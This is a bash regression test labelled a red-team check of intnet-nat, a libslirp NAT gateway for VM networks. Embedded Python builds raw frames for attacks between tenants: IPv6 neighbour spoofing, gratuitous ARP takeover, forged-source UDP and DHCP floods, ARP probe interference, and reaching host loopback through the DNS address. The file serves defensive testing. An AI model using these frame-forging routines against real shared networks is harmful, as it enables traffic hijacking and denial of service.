#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# Red team 2 on intnet-nat's issue 18 fixes (nat.sh's "Issue 18" blocks). Each check
# asserts the SECURE behaviour: a "not ok" is a hole. Setup as nat.sh: alice (1001),
# helper ACL "allow lab", servers on this host's 127.0.0.1 (TCP 7001, UDP 7002), the
# gateway's resolv.conf "nameserver 127.0.0.1"; alice's VM nvm1 (her port), bob's
# VM nbob (his port, 1002) once lab is public.
#  A. The race: lab restricted (loopback open), alice makes it public, bob's VM joins
#     and connects at once: to 10.0.2.77 (any vnetwork address is the host's loopback
#     to libslirp, but only 10.0.2.2 triggers the 250 ms re-check) and to 10.0.2.2.
#     And to fec0::77: libslirp 4.7 makes every address of the IPv6 prefix (not only
#     fec0::2) the host's ::1, and intnet-nat re-checks only for fec0::2.
#  B. lab public (loopback "closed"): the DNS address 10.0.2.3 on any port is the
#     resolver's address (libslirp's sotranslate_out skips disable_host_loopback
#     for it): TCP and UDP to 10.0.2.3:700x.
#  C. IPv6 neighbour takeover: an NA from bob's VM with alice's VM's IPv6 address as
#     its source makes libslirp send her traffic to bob (no NDP counterpart of the
#     ARP check).
#  E. ARP for an address this run of the gateway never leased: alice's VM keeps its
#     address across a gateway restart; bob's gratuitous ARP takes her forward.
#  F. The per-address flow share: bob's VM forges 6 source addresses and takes every
#     fd the VMs may have; alice's VM gets no new flow for 4 minutes.
#  G. The lease pool: 16 DISCOVERs whose chaddr is their (forged) Ethernet source
#     take all 16 leases for good; alice's VM gets none (nat.sh only logs it).
#  D. The startup probe: bob answers the first ARP probe with the probe's own MAC as
#     source; the next probe re-learns that MAC behind alice's TAP, so judge() sees
#     "a port of this user" answering and alice's gateway refuses to start.
# Guest run (6.12, 2026-12-04): not ok A4 A3 C1 C2 E1 D1 F2 G1 (holes); ok A1 A2 B* (held).
. "$(dirname "$0")/../lib.sh"

repo=$(cd "$(dirname "$0")/../.." && pwd)
NAT=$repo/userland/intnet-nat
ALICE=1001 BOB=1002

plan 20
load_module

tmp=$(mktemp -d)
chmod 0755 "$tmp"
pids=()
at_exit rm -rf "$tmp"
at_exit del_nets 1001/lab
at_exit del_links nv1 nb1 rnd0
at_exit del_netns nvm1 nbob
at_exit_late 'stop_pids "${pids[@]}"'
INTNET_NAT_INTNETCTL=$(command -v intnetctl)
export INTNET_NAT_INTNETCTL

qemu_helper_setup "$tmp" "allow lab"

cat >"$tmp/peer.py" <<'PY'
import selectors, socket, sys, time
mode, args = sys.argv[1], sys.argv[2:]
def servers():
    sel = selectors.DefaultSelector()
    t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(("127.0.0.1", 7001)); t.listen(64); sel.register(t, selectors.EVENT_READ, "tcp")
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 7002))
    sel.register(u, selectors.EVENT_READ, "udp")
    t6 = socket.socket(socket.AF_INET6); t6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t6.bind(("::1", 7001)); t6.listen(64); sel.register(t6, selectors.EVENT_READ, "tcp")
    print("ready", flush=True)
    while True:
        for key, _ in sel.select():
            s = key.fileobj
            if key.data == "tcp":
                c, a = s.accept(); c.sendall(b"hello-tcp\n"); c.close()
                print("tcp from", a[0], flush=True)
            else:
                m, a = s.recvfrom(2048); s.sendto(b"udp:" + m, a)
                print("udp from", a[0], flush=True)
def listen():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", int(args[0]))); s.listen(1)
    print("ready", flush=True)
    c, a = s.accept(); c.sendall(b"pong\n"); c.close()
    print("from", a[0], flush=True)
def tcp():
    s = socket.create_connection((args[0], int(args[1])), timeout=5)
    print(s.recv(100).decode().strip())
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(args[2].encode(), (args[0], int(args[1])))
    print(s.recv(100).decode())
def spray():  # spray ADDR PORT SECS: a new connect every 20 ms; any hello wins
    sel = selectors.DefaultSelector(); end = time.time() + float(args[2]); nxt = 0
    print("ready", flush=True)
    while time.time() < end:
        if time.time() >= nxt:
            s = socket.socket(socket.AF_INET6 if ":" in args[0] else socket.AF_INET); s.setblocking(False)
            s.connect_ex((args[0], int(args[1])))
            sel.register(s, selectors.EVENT_WRITE | selectors.EVENT_READ)
            nxt = time.time() + 0.02
        for key, _ in sel.select(0.01):
            s = key.fileobj
            try:
                d = s.recv(100)
            except (BlockingIOError, ConnectionError, OSError):
                d = None
            if d and b"hello" in d:
                print("hello-tcp at", round(float(args[2]) - (end - time.time()), 2), flush=True)
                return
            if d is not None or s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                sel.unregister(s); s.close()
    print("none", flush=True)
globals()[mode]()
PY
peer() { timeout 20 python3 "$tmp/peer.py" "$@" 2>&1 | tail -1; }
in_vm() { local vm=$1; shift; ip netns exec "$vm" "$@"; }

cat >"$tmp/frames.py" <<'PY'
import socket, struct, sys, time
mode, args = sys.argv[1], sys.argv[2:]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(("eth0", 0))
mac = s.getsockname()[4]
def sum16(b):
    if len(b) % 2: b += b"\0"
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while t >> 16: t = (t & 0xffff) + (t >> 16)
    return t
if mode == "ndsteal":  # ndsteal VICTIM6 GWMAC GW6 SECS: NAs from VICTIM6, count echo replies to it
    victim = socket.inet_pton(socket.AF_INET6, args[0])
    gwmac = bytes.fromhex(args[1].replace(":", ""))
    gw = socket.inet_pton(socket.AF_INET6, args[2])
    na = struct.pack("!BBHI", 136, 0, 0, 0x60000000) + victim + b"\x02\x01" + mac
    c = ~sum16(victim + gw + struct.pack("!IxxxB", len(na), 58) + na) & 0xffff
    na = na[:2] + struct.pack("!H", c) + na[4:]
    frame = gwmac + mac + b"\x86\xdd" + struct.pack("!IHBB", 0x60000000, len(na), 58, 255) + victim + gw + na
    s.settimeout(0.02); end = time.time() + float(args[3]); n = 0
    print("ready", flush=True)
    while time.time() < end:
        s.send(frame)
        try:
            f = s.recv(4096)
        except socket.timeout:
            continue
        if f[12:14] == b"\x86\xdd" and f[20] == 58 and f[38:54] == victim and f[54] == 129:
            n += 1
    print(n, flush=True)
elif mode == "garploop":  # garploop IP SECS: "IP is at my MAC" every 20 ms
    end = time.time() + float(args[1])
    while time.time() < end:
        s.send(b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) +
               mac + socket.inet_aton(args[0]) + b"\0" * 6 + socket.inet_aton(args[0]))
        time.sleep(0.02)
elif mode == "udpforge":  # udpforge SRCS PER DST GWMAC: PER UDP flows from each of SRCS forged sources
    dst = socket.inet_aton(args[2]); gwmac = bytes.fromhex(args[3].replace(":", ""))
    for k in range(int(args[0])):
        src = socket.inet_aton("10.0.2.%d" % (100 + k))
        for j in range(int(args[1])):
            u = struct.pack("!HHHH", 30000 + j, 9, 9, 0) + b"x"
            h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(u), j, 0, 64, 17, 0, src, dst)
            h = h[:10] + struct.pack("!H", ~sum16(h) & 0xffff) + h[12:]
            s.send(gwmac + mac + b"\x08\x00" + h + u)
            time.sleep(0.001)
elif mode == "dhcpsame":  # dhcpsame N: N DISCOVERs, client 02:bb:..:i each, from that MAC (chaddr == source)
    for i in range(int(args[0])):
        ch = bytes([2, 0xbb, 0, 0, 0, i])
        b = struct.pack("!BBBBIHH", 1, 1, 6, 0, 0x1000 + i, 0, 0x8000) + b"\0" * 16 + ch + b"\0" * 202
        b += b"\x63\x82\x53\x63\x35\x01\x01\xff"
        u = struct.pack("!HHHH", 68, 67, 8 + len(b), 0) + b
        h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(u), 1, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
        h = h[:10] + struct.pack("!H", ~sum16(h) & 0xffff) + h[12:]
        s.send(b"\xff" * 6 + ch + b"\x08\x00" + h + u)
        time.sleep(0.02)
elif mode == "probeonce":  # probeonce IP SECS: answer the first ARP probe for IP from the probe's MAC
    ip = socket.inet_aton(args[0]); s.settimeout(0.2); end = time.time() + float(args[1])
    print("ready", flush=True)
    while time.time() < end:
        try: f = s.recv(2048)
        except socket.timeout: continue
        if f[12:14] == b"\x08\x06" and f[20:22] == b"\0\1" and f[38:42] == ip:
            probe = f[6:12]
            s.send(b"\xff" * 6 + probe + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, 2) +
                   mac + ip + probe + f[28:32])
            print("answered once from", probe.hex(":"), flush=True)
            break
PY
frames() { local vm=$1; shift; ip netns exec "$vm" python3 "$tmp/frames.py" "$@"; }

echo "nameserver 127.0.0.1" >"$tmp/resolv.conf"
nat_pre=()
start_nat() {
	local log=$1
	shift
	unshare -m sh -c 'mount --bind "$0" /etc/resolv.conf && exec "$@"' "$tmp/resolv.conf" \
		setpriv --reuid=$ALICE --regid=$ALICE --clear-groups "${nat_pre[@]}" "$NAT" "$@" >"$log" 2>&1 &
	nat_pid=$!
	pids+=("$nat_pid")
	for _ in $(seq 100); do
		grep -q "gateway for" "$log" && return 0
		kill -0 "$nat_pid" 2>/dev/null || return 1
		sleep 0.1
	done
	return 1
}
stop_nat() {
	kill -TERM "$nat_pid" 2>/dev/null
	wait "$nat_pid" 2>/dev/null
}
wait_ready() { for _ in $(seq 50); do grep -q ready "$1" && return 0; sleep 0.1; done; }

# alice's restricted lab, her VM (a port of hers), bob's VM not attached yet.
as_uid $ALICE intnetctl net add lab
ip netns add nvm1
ip -n nvm1 link set lo up
ip link add nv1 type veth peer name eth0 netns nvm1
ip -n nvm1 link set eth0 address 02:00:00:00:0a:01 up
ip link set nv1 up
intnetctl port add nv1 net 1001/lab user $ALICE
ip -n nvm1 addr add 10.0.2.15/24 dev eth0
ip -n nvm1 addr add fec0::a01/64 dev eth0 nodad
ip netns add nbob
ip -n nbob link set lo up
ip link add nb1 type veth peer name eth0 netns nbob
ip -n nbob link set eth0 address 02:00:00:00:0b:01 up
ip link set nb1 up
ip -n nbob addr add 10.0.2.99/24 dev eth0
ip -n nbob route add 10.0.2.77/32 via 10.0.2.2
ip -n nbob neigh replace 10.0.2.2 lladdr 52:55:0a:00:02:02 dev eth0 nud permanent
ip -n nbob addr add fec0::b01/64 dev eth0 nodad
ip -n nbob neigh replace fec0::77 lladdr 52:55:0a:00:02:02 dev eth0 nud permanent
python3 "$tmp/peer.py" servers >"$tmp/servers.log" 2>&1 &
pids+=($!)
wait_ready "$tmp/servers.log"
# A host address that is not loopback, a UDP echo on it (F).
ip link add rnd0 type dummy
ip addr add 192.0.2.1/24 dev rnd0
ip link set rnd0 up
python3 -c '
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("192.0.2.1", 7003))
print("ready", flush=True)
while True:
    m, a = u.recvfrom(2048); u.sendto(b"udp:" + m, a)' >"$tmp/echo.log" 2>&1 &
pids+=($!)
wait_ready "$tmp/echo.log"

# ---- A. The race: lab turns public under a gateway with its loopback open ----
# race ADDR LOG: bob's VM sprays SYNs at ADDR:7001 while lab goes public and his port joins.
race() {
	local addr=$1 log=$2 spray
	start_nat "$log" lab || return 1
	grep -q "loopback through 10.0.2.2: open to the VMs" "$log" || return 1
	in_vm nbob timeout 20 python3 "$tmp/peer.py" spray "$addr" 7001 4 >"$tmp/spray.log" 2>&1 &
	spray=$!
	wait_ready "$tmp/spray.log"
	as_uid $ALICE intnetctl net set lab public
	intnetctl port add nb1 net 1001/lab user $BOB
	wait "$spray"
	for _ in $(seq 60); do kill -0 "$nat_pid" 2>/dev/null || break; sleep 0.1; done
	stop_nat
	intnetctl port del nb1
	as_uid $ALICE intnetctl net set lab restricted
	sed 's/^/#   /' "$log"
	echo "#   spray: $(tail -1 "$tmp/spray.log")"
}
check "A0: race set up (gateway open, then lab public)" race 10.0.2.77 "$tmp/natA1.log"
out=$(tail -1 "$tmp/spray.log")
check "A1: bob's VM joining lab as it turns public reaches no loopback through 10.0.2.77 ($out)" \
	test "$out" = none
race fec0::77 "$tmp/natA4.log"
out=$(tail -1 "$tmp/spray.log")
check "A4: ... nor through fec0::77 (any address of the IPv6 prefix is ::1 to libslirp; only fec0::2 is re-checked) ($out)" \
	test "$out" = none
race 10.0.2.2 "$tmp/natA2.log"
out=$(tail -1 "$tmp/spray.log")
check "A2: ... nor through 10.0.2.2 (the 250 ms re-check) ($out)" test "$out" = none
expect_eq "A3: the host's TCP server saw no connection from the gateway during the races" 0 \
	"$(grep -c "tcp from" "$tmp/servers.log")"

# ---- B. lab public: the loopback "closed", the DNS address still leads to it ----
as_uid $ALICE intnetctl net set lab public
intnetctl port add nb1 net 1001/lab user $BOB
check "B0: alice's gateway starts on public lab" \
	start_nat "$tmp/natB.log" lab hostfwd=tcp:127.0.0.1:2222-10.0.2.15:22
check "B1: ... its loopback closed" \
	grep -q "loopback through 10.0.2.2: closed (lab is public" "$tmp/natB.log"
out=$(in_vm nbob timeout 20 python3 "$tmp/peer.py" tcp 10.0.2.2 7001 2>&1 | tail -1)
check "B2: bob's VM: no TCP to the loopback through 10.0.2.2 (control) ($out)" test "$out" != hello-tcp
out=$(in_vm nbob timeout 20 python3 "$tmp/peer.py" tcp 10.0.2.3 7001 2>&1 | tail -1)
check "B3: bob's VM: no TCP to the host's 127.0.0.1:7001 through the DNS address 10.0.2.3 ($out)" \
	test "$out" != hello-tcp
out=$(in_vm nbob timeout 20 python3 "$tmp/peer.py" udp 10.0.2.3 7002 hi 2>&1 | tail -1)
check "B4: bob's VM: no UDP to the host's 127.0.0.1:7002 through 10.0.2.3 ($out)" test "$out" != udp:hi

# ---- C. IPv6: bob's NA in alice's VM's name ----
check "C0: alice's VM pings the gateway's IPv6 address fec0::2" \
	in_vm nvm1 ping -6 -q -c 2 -W 3 -i 0.3 -I fec0::a01 fec0::2
frames nbob ndsteal fec0::a01 52:55:0a:00:02:02 fec0::2 4 >"$tmp/nd.log" 2>&1 &
nd=$!
wait_ready "$tmp/nd.log"
sleep 0.5
in_vm nvm1 ping -6 -q -c 5 -W 1 -i 0.3 -I fec0::a01 fec0::2 >"$tmp/ping6.log" 2>&1
wait "$nd"
sed 's/^/#   /' "$tmp/ping6.log"
expect_eq "C1: after bob's NAs from fec0::a01, bob's VM receives none of the gateway's echo replies to alice's VM" \
	0 "$(tail -1 "$tmp/nd.log")"
check "C2: ... and alice's VM still gets them" grep -q " 0% packet loss" "$tmp/ping6.log"

# ---- E. ARP for an address this gateway has not leased (yet) ----
# alice's VM keeps 10.0.2.15 from an earlier run of the gateway (a restart, or the
# leave-and-restart when lab turned public); libslirp's lease table and intnet-nat's
# are empty, so bob's gratuitous ARP for 10.0.2.15 passes and her forward goes to him.
in_vm nvm1 timeout 30 python3 "$tmp/peer.py" listen 22 >"$tmp/la.log" 2>&1 &
pids+=($!)
ip -n nbob addr add 10.0.2.15/32 dev eth0
in_vm nbob timeout 30 python3 "$tmp/peer.py" listen 22 >"$tmp/lb.log" 2>&1 &
pids+=($!)
wait_ready "$tmp/la.log"
wait_ready "$tmp/lb.log"
frames nbob garploop 10.0.2.15 3 &
garp=$!
sleep 0.5
peer tcp 127.0.0.1 2222 >/dev/null
sleep 0.3
wait "$garp"
expect_eq "E1: after bob's gratuitous ARPs for 10.0.2.15 (alice's VM's, not leased by this run), alice's forward still reaches her VM" \
	"from 10.0.2.2 -" "$(tail -1 "$tmp/la.log") -$(grep from "$tmp/lb.log")"
ip -n nbob addr del 10.0.2.15/32 dev eth0
stop_nat
sed -n '/gateway for/,$s/^/#   /p' "$tmp/natB.log"

# ---- D. The startup probe: bob answers once, from the probe's own MAC ----
frames nbob probeonce 10.0.2.2 30 >"$tmp/probe.log" 2>&1 &
pids+=($!)
wait_ready "$tmp/probe.log"
start_nat "$tmp/natD.log" lab
rc=$?
sed 's/^/#   /' "$tmp/natD.log" "$tmp/probe.log"
check "D1: bob answering alice's first ARP probe from the probe's MAC does not keep her gateway from starting" \
	test "$rc" = 0
stop_nat

# ---- F. The per-address share: bob forges 6 source addresses ----
nat_pre=(prlimit --nofile=256:512)
check "F0: alice's gateway starts (fds 256:512, as nat.sh)" start_nat "$tmp/natF.log" lab
nat_pre=()
ip -n nvm1 route replace default via 10.0.2.2
expect_eq "F1: alice's VM's UDP gets out before" udp:hi \
	"$(in_vm nvm1 timeout 10 python3 "$tmp/peer.py" udp 192.0.2.1 7003 hi 2>&1 | tail -1)"
frames nbob udpforge 6 110 192.0.2.1 52:55:0a:00:02:02
echo "# intnet-nat holds $(find "/proc/$nat_pid/fd" -mindepth 1 | wc -l) fds"
expect_eq "F2: after bob's 660 UDP flows from 6 forged addresses, alice's VM's UDP still gets out" udp:hi \
	"$(in_vm nvm1 timeout 10 python3 "$tmp/peer.py" udp 192.0.2.1 7003 hi 2>&1 | tail -1)"
grep -E "file descriptors|flows open" "$tmp/natF.log" | sed 's/^/#   /'
stop_nat

# ---- G. The lease pool: 16 DISCOVERs, each from the client MAC it names ----
cat >"$tmp/udhcpc.sh" <<'SH'
#!/bin/sh
[ "$1" != bound ] || ip addr add "$ip/$subnet" dev "$interface"
exit 0
SH
chmod 0755 "$tmp/udhcpc.sh"
check "G0: alice's gateway starts" start_nat "$tmp/natG.log" lab
frames nbob dhcpsame 16
sleep 0.5
ip -n nvm1 addr flush dev eth0
in_vm nvm1 busybox udhcpc -i eth0 -n -q -t 4 -T 1 -s "$tmp/udhcpc.sh" >"$tmp/udhcpc.log" 2>&1
out=$(ip -n nvm1 -4 -o addr show dev eth0 | awk '{ print $4 }' | grep . || echo none)
check "G1: after bob's 16 DISCOVERs (chaddr == forged source), alice's VM still gets a lease ($out)" \
	test "$out" != none
grep -E "leases are taken|no lease" "$tmp/natG.log" | sed 's/^/#   /'
stop_nat
as_uid $ALICE intnetctl net set lab restricted 2>/dev/null
finish
